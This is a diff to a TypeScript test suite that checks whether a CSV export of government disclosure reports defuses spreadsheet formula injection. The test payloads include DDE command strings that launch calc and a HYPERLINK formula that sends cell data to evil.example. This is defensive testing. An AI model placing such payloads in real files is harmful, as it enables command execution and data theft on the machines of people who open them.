@@ -34,7 +34,13 @@ function rows(csv: string): Record<(typeof CSV_COLUMNS)[number], string>[] {
   }
   const [header, ...body] = out;
   expect(header).toEqual([...CSV_COLUMNS]);
-  return body.map((fields) => Object.fromEntries(CSV_COLUMNS.map((name, i) => [name, fields[i]!])) as Record<(typeof CSV_COLUMNS)[number], string>);
+  return body.map(
+    (fields) =>
+      Object.fromEntries(CSV_COLUMNS.map((name, i) => [name, fields[i]!])) as Record<
+        (typeof CSV_COLUMNS)[number],
+        string
+      >,
+  );
 }
 
 const NUMBER = /^-?(0|[1-9][0-9]*)(\.[0-9]+)?$/;
@@ -53,24 +59,27 @@ function expectInert(csv: string): void {
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
   "=cmd|' /C calc'!A0",
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
 ];
 
 describe('formula injection in the tidy CSV', () => {
-  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))('a division code %s (the report id starts with it) gets a leading quote', (_name, payload) => {
-    const report = clone(r2021);
-    delete (report.metadata.agency as { unifiedSocialCreditCode?: string }).unifiedSocialCreditCode;
-    report.metadata.agency.administrativeDivisionCode = payload;
-    const csv = tidyCsv(report);
-    expectInert(csv);
-    const id = rows(csv)[0]!.report_id;
-    // A trimmed code: leading tab or CR goes with the trim, what follows is still neutralised.
-    expect(id).toBe(`'${payload.trim()}-${report.metadata.agency.name}-${report.metadata.reportYear}`);
-  });
+  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))(
+    'a division code %s (the report id starts with it) gets a leading quote',
+    (_name, payload) => {
+      const report = clone(r2021);
+      delete (report.metadata.agency as { unifiedSocialCreditCode?: string }).unifiedSocialCreditCode;
+      report.metadata.agency.administrativeDivisionCode = payload;
+      const csv = tidyCsv(report);
+      expectInert(csv);
+      const id = rows(csv)[0]!.report_id;
+      // A trimmed code: leading tab or CR goes with the trim, what follows is still neutralised.
+      expect(id).toBe(`'${payload.trim()}-${report.metadata.agency.name}-${report.metadata.reportYear}`);
+    },
+  );
 
   it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))('a credit code %s gets a leading quote', (_name, payload) => {
     const report = clone(r2021);
@@ -85,13 +94,17 @@ describe('formula injection in the tidy CSV', () => {
     report.metadata.agency.name = "=cmd|' /C calc'!A0";
     const csv = tidyCsv(report);
     expectInert(csv);
-    expect(rows(csv)[0]!.report_id).toBe(`${report.metadata.agency.administrativeDivisionCode}-=cmd|' /C calc'!A0-2020`);
+    expect(rows(csv)[0]!.report_id).toBe(
+      `${report.metadata.agency.administrativeDivisionCode}-=cmd|' /C calc'!A0-2020`,
+    );
   });
 
   it('text in a value or unit cell (an unvalidated document) is neutralised too', () => {
     const report = clone(r2019);
     // The 2019 procurement amount carries its own unit: both are the document's text.
-    (report.sections.proactiveDisclosure.table.article20Item9.centralizedProcurement as { totalAmount: unknown }).totalAmount = { value: '=1+1', unit: '@元' };
+    (
+      report.sections.proactiveDisclosure.table.article20Item9.centralizedProcurement as { totalAmount: unknown }
+    ).totalAmount = { value: '=1+1', unit: '@元' };
     const csv = tidyCsv(report);
     expectInert(csv);
     const cell = rows(csv).find((record) => record.column_id === 'totalAmount')!;
@@ -103,7 +116,10 @@ describe('formula injection in the tidy CSV', () => {
     const report = clone(r2019);
     report.sections.proactiveDisclosure.table.article20Item5.administrativeLicensing.changeThisYear = -2;
     report.sections.proactiveDisclosure.table.article20Item8.administrativeFees.changeThisYear = -15;
-    report.sections.proactiveDisclosure.table.article20Item9.centralizedProcurement.totalAmount = { value: '59237.2449', unit: '万元' };
+    report.sections.proactiveDisclosure.table.article20Item9.centralizedProcurement.totalAmount = {
+      value: '59237.2449',
+      unit: '万元',
+    };
     const csv = tidyCsv(report);
     expectInert(csv);
     const records = rows(csv);
